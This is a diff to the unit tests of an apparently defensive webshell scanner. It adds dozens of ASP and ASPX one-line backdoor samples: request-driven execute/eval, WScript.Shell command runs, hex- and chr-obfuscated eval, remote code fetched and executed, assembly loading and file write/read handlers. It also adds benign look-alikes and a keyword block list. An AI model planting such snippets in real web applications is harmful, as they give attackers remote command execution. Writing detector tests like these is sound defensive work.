@@ -4,7 +4,7 @@
 
 #include "engines/decoders.h"
 #include "engines/inflate.h"
-#include "engines/page_script.h"
+#include "engines/page_flow.h"
 #include "engines/php_flow.h"
 #include "engines/php_tokens.h"
 #include "engines/script_encoding.h"
@@ -80,16 +80,83 @@ TEST(WebshellScan, NamesWhatPagesDo) {
   const Case cases[] = {
       {"<%execute(session(\"a\"))\nsession(\"a\")=request(\"b\")\n%>", "ASP backdoor"},
       {"<%\nset w=createobject(\"wscript.shell\")\nc=request(\"c\")\nw.run c\n%>", "ASP backdoor"},
+      {"<%With CreateObject(\"WScript.Shell\")\nc=Request(\"c\")\n.Exec(c)\nEnd With%>", "ASP backdoor"},
+      {"<object runat=server id=w classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object><%=w.exec(\"cmd /c \""
+       "&request(\"c\"))%>",
+       "ASP backdoor"},
+      {"<%x=request _\n(\"a\")\nexecute(x)&\"\"%>", "ASP backdoor"},
+      {"<%Sub z(c)\nExecute c\nEnd Sub\nSet f=GetRef(\"z\")\nf request(\"c\")%>", "ASP backdoor"},
+      {"<%For Each k In Request.Form\nExecute Request.Form(k)\nNext%>", "ASP backdoor"},
+      {"<%execute(\"on error resume next:\"&request(\"a\"))%>", "ASP backdoor"},
+      {"<%[execute] request(\"a\")%>", "ASP backdoor"},
+      {"<%\xA3\xE5val request(\"a\")%>", "ASP backdoor"},
+      {"<%@ Language=JScript %><%var e=eval;e(Request.Form(\"a\")+\"\");%>", "ASP backdoor"},
+      {"<%@ Language=JScript %><%this[\"ev\"+\"al\"](String(Request(\"a\")))%>", "ASP variant backdoor"},
+      {"<script language=vbscript runat=server>execute request(\"a\")</script>", "ASP backdoor"},
       {"<%ev\"&\"al(request(\"x\"))%>", "ASP variant backdoor"},
       {"<%\nExecute StrReverse(\")x(tseuqer lave\")\n%>", "ASP variant backdoor"},
-      {"<%\nset f=createobject(\"scr\"&\"ipting.filesystemobject\")\n%>", "ASP variant backdoor"},
+      {"<%b(0)=\"ev\":b(1)=\"al\"\nexecute b(0)&b(1)&\"(request(chr(97)))\"%>", "ASP variant backdoor"},
+      {"<%execute(Replace(unescape(\"ev%78al(rexquest(1))\"),\"x\",\"\"))%>", "ASP variant backdoor"},
+      {"<%Function h(s):For i=1 To Len(s) Step 2:h=h&Chr(\"&H\"&Mid(s,i,2)):Next:End Function:Execute "
+       "h(\"6576616C20726571756573742822612229\")%>",
+       "ASP variant backdoor"},
+      {"<%for each c in array(101,118,97,108,32,114,101,113,117,101,115,116):s=s&chr(c):next:execute s%>",
+       "ASP variant backdoor"},
+      {"<%x.open \"GET\",u,false:set x=createobject(\"microsoft.xmlhttp\"):execute x.responsetext%>",
+       "ASP variant backdoor"},
+      {"<%\nset w=createobject(\"wscr\"&\"ipt.shell\")\n%>", "ASP variant backdoor"},
+      {"<%Set f=fso.CreateTextFile(request(\"p\"),True)\nf.Write request(\"c\")%>", "Suspected dangerous files"},
+      {"<%c.open \"server=\"&request(\"s\")\nc.execute request(\"q\")%>", "Suspected dangerous files"},
       {"<%@ codepage = 65000 %>+ADw-", "UTF-7 encoded script"},
       {"<%@ Page Language=\"C#\" %><% Process.Start(Request[\"c\"]); %>", "ASPX variant backdoor"},
       {"<%@ Page Language=\"C#\" %><script runat=server>void R(string c) { P.Start(\"cmd\", c); } void L() { "
        "R(Request.Form[\"c\"]); }</script>",
        "ASPX variant backdoor"},
+      {"<%@ Page Language=\"VB\" %><script runat=server>Dim p As New Process()\np.StartInfo.Arguments=Request(\"c\")\n"
+       "</script>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"Jscript\"%><%\\u0065val(Request.Item[\"a\"],\"unsafe\");%>", "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%@Process.@\\U00000053tart(@Request[\"c\"]);%>", ""},  // a directive
+      {"<%@ Page Language=\"C#\"%><%System.@Process.\\U00000053tart(@Request[\"c\"]);%>", "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%Assembly.Load(new Rijndael().Decrypt(Request.BinaryRead(9)));%>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%var d=Convert.FromBase64String(\"QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\");"
+       "Assembly.Load(d);%>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%t.GetMethod(\"Start\").Invoke(null,new object[]{\"cmd\",Request[\"c\"]});%>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%new LosFormatter().Deserialize(Request[\"v\"]);%>", "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%File.WriteAllText(Request[\"p\"],Request[\"c\"]);%>", "Suspected dangerous files"},
+      {"<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void ProcessRequest(HttpContext x) {\n"
+       "x.Response.BinaryWrite(File.ReadAllBytes(x.Request[\"f\"])); } }",
+       "Suspected dangerous files"},
   };
   for (const Case& c : cases) EXPECT_EQ(Finding(c.text), c.name) << c.text;
+}
+
+TEST(WebshellScan, SparesOrdinaryPages) {
+  const std::string_view cases[] = {
+      "<%sql=\"select * from t where a='\"&request(\"a\")&\"'\":sql=replace(sql,\"x\",\"\"):set rs=execute(sql)%>",
+      "<%for each i in request.form:execute i&\"=request(\"\"\"&i&\"\"\")\":next%>",
+      "<%a=cdbl(request(\"a\")):response.write eval(a&request(\"op\")&cdbl(request(\"b\")))%>",
+      "<%execute \"call \"&request(\"action\")&\"()\"%>",
+      "<%set f=fso.opentextfile(server.mappath(request(\"t\")&\".asp\")):c=f.readall:execute mid(c,3,9)%>",
+      "<%conn.execute(request(\"sql\"))%><!--#include file=\"check.asp\"-->",
+      "<%set d=createobject(\"adodb.stream\"):d.write request.binaryread(request.totalbytes):d.savetofile path,2%>",
+      "<%x=split(\"exec|cmd|xp_cmdshell|localgroup|wscript|shell|sp_oacreate|hacker\",\"|\"):if "
+      "instr(request(\"a\"),x(0)) then response.write \"no\"%>",
+      "<html>hacker, webshell, backdoor, hacked by, xp_cmdshell<%=rs(\"a\")%><%=request(\"b\")%></html>",
+      "<%@ Language=JScript %><%var m=/a\"b/.exec(String(Request(\"q\")));var o=eval(\"(\"+x.responseText+\")\");%>",
+      "<%o(0)=\"wscript.shell\":o(1)=\"shell.application\":set x=server.createobject(request(\"n\"))%>",
+      "<%set fso=createobject(\"scripting.\"&\"filesystemobject\"):fso.createtextfile(server.mappath(\"a.txt\")).write "
+      "request(\"a\")%>",
+      "<%@ Page Language=\"C#\" %><%# Eval(\"a\") %><%=int.Parse(Request[\"a\"])%><%d.Load(Request[\"x\"]);"
+      "new Thread(f).Start(Request[\"x\"]);%>",
+      "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\nclass U { void ProcessRequest(HttpContext c) {\n"
+      "string p = Server.MapPath(c.Request[\"folder\"]) + \"\\\\\";\nc.Request.Files[0].SaveAs(p + f.FileName);\n"
+      "GetType().GetMethod(c.Request[\"do\"]).Invoke(this, new object[] { c }); } }",
+  };
+  for (const std::string_view text : cases) EXPECT_EQ(Finding(text), "") << text;
 }
 
 TEST(WebshellScan, KeepsItsLimits) {
@@ -125,15 +192,58 @@ TEST(WebshellScan, KnownGoodCodeClearsTheText) {
 }
 
 TEST(WebshellScan, NeverReadsBehindItsText) {
-  const Tokens tokens = {
-      "<?php ", "$a", "=",      "$_POST[1]",     "(", ")", "{",  "}",  "[",  "]",  "eval",    "function f", "\"$a[",
-      "${",     "'",  "<<<X\n", "base64_decode", ";", ".", "\\", "?>", "<%", "%>", "request", "foreach",    " as ",
-      "=>",     "->", "`"};
+  const Tokens tokens = {"<?php ",
+                         "$a",
+                         "=",
+                         "$_POST[1]",
+                         "(",
+                         ")",
+                         "{",
+                         "}",
+                         "[",
+                         "]",
+                         "eval",
+                         "function f",
+                         "\"$a[",
+                         "${",
+                         "'",
+                         "<<<X\n",
+                         "base64_decode",
+                         ";",
+                         ".",
+                         "\\",
+                         "?>",
+                         "<%",
+                         "%>",
+                         "request",
+                         "foreach",
+                         " as ",
+                         "=>",
+                         "->",
+                         "`",
+                         "execute ",
+                         "chr(",
+                         "&",
+                         "\n",
+                         "with ",
+                         "&h6",
+                         "new object[]",
+                         "\\u0065",
+                         "@\"",
+                         "/*",
+                         "function g(",
+                         "end function",
+                         "\xA3\xE5",
+                         "#@~^",
+                         "^#~@",
+                         "mid(",
+                         "replace(",
+                         "1"};
   ForRandomSequences(tokens, 30, 4000, [](std::string_view text) {
     WebshellResult result;
     Libs().WebshellScan(text, &result);
     FollowPhp(text, true);
-    FollowPage(text, PageKind::kAspx);
+    for (const PageKind kind : {PageKind::kAsp, PageKind::kAspx}) FollowPage(ServerCode(text, kind), kind);
     DecodeEncodedScript(text);
   });
 }
